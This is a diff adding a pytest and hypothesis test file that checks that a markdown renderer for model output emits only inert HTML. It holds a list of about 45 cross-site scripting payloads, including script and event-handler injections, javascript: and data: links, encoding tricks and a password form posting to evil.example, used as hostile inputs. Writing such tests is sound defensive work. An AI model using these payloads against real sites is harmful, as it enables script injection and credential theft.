@@ -1,0 +1,133 @@
+"""What a model writes is shown as it was meant, and can do nothing."""
+
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from conversations.markdown import to_html
+
+HARMFUL = {"script", "style", "img", "svg", "math", "iframe", "form", "input", "base", "meta", "link", "object"}
+
+
+class Elements(HTMLParser):
+    """Collects the elements and attributes that a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
+
+
+def assert_inert(html: str) -> None:
+    for tag, attributes in Elements(html).found:
+        assert tag not in HARMFUL
+        assert set(attributes) <= {"href", "title", "rel", "start"}
+        href = attributes.get("href")
+        assert href is None or href.lower().startswith(("http:", "https:", "mailto:"))
+        if tag == "a":
+            assert attributes["rel"] == "noopener noreferrer nofollow"
+
+
+@pytest.mark.parametrize(
+    ("markdown", "html"),
+    [
+        ("# Tides\n\nHigh at *noon*, **low** at ~~six~~ `7`.", "<h1>Tides</h1>\n<p>High at <em>noon</em>,"),
+        ("~~six~~", "<s>six</s>"),
+        ("| a | b |\n| --- | --: |\n| 1 | 2 |", "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>"),
+        ("```python\nif a < b:\n    pass\n```", "<pre><code>if a &lt; b:\n    pass\n</code></pre>"),
+        ("3. three\n4. four", '<ol start="3">'),
+        ("line  \nbreak", "line<br>\nbreak"),
+        (
+            '[tides](https://example.org/?a=1&b=2 "today")',
+            '<a href="https://example.org/?a=1&amp;b=2" title="today" rel="noopener noreferrer nofollow">tides</a>',
+        ),
+    ],
+)
+def test_markdown_is_shown_as_it_was_meant(markdown, html):
+    assert html in to_html(markdown)
+
+
+def test_html_is_shown_as_text():
+    assert to_html("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"
+
+
+def test_a_picture_is_a_link_that_nothing_follows_by_itself():
+    assert to_html("![a harbour](https://example.org/harbour.png)") == (
+        '<p><a href="https://example.org/harbour.png" rel="noopener noreferrer nofollow">a harbour</a></p>\n'
+    )
+
+
+@pytest.mark.parametrize("address", ["/admin/logout/", "//evil.example/", "?q=1", "#top", "ftp://example.org/"])
+def test_a_link_leads_to_another_site_or_nowhere(address):
+    assert to_html(f"[words]({address})") == '<p><a rel="noopener noreferrer nofollow">words</a></p>\n'
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<style>@import 'https://evil.example/x.css'</style>",
+    "<base href=https://evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<!--><script>alert(1)</script>-->",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](&#x01;javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
+    '[x](https://example.org/"onmouseover="alert(1))',
+    '[x](<https://example.org/" onmouseover="alert(1)>)',
+    "[x](https://example.org '\" onmouseover=\"alert(1)')",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    '<https://example.org/?"onmouseover=alert(1)>',
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    '!["><script>alert(1)</script>](https://example.org/x.png)',
+    "![x](x \"' onerror='alert(1)\")",
+    "[![x](https://example.org/x.png)](javascript:alert(1))",
+    '```"><script>alert(1)</script>\nx\n```',
+    '``` x" onclick="alert(1)\nx\n```',
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
+    "| x |\n| :-: |\n| y |",
+    "# <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\x00<script>alert(1)</script>\x00",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\u202e<script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("markdown", HOSTILE)
+def test_what_is_hostile_comes_out_inert(markdown):
+    assert_inert(to_html(markdown))
+
+
+@given(
+    st.lists(st.sampled_from(HOSTILE) | st.text(max_size=20) | st.sampled_from("<>[]()!`~*_|#>&\"'\n "), max_size=12)
+)
+def test_no_mixture_of_it_does_anything_either(pieces):
+    assert_inert(to_html("".join(pieces)))
+
+
+@pytest.mark.parametrize("mark", ["> ", "- ", "[", "![", "**", "`", "<", "((", "~~", "\\"])
+def test_no_depth_is_too_deep(mark):
+    assert_inert(to_html(mark * 5_000 + "x"))
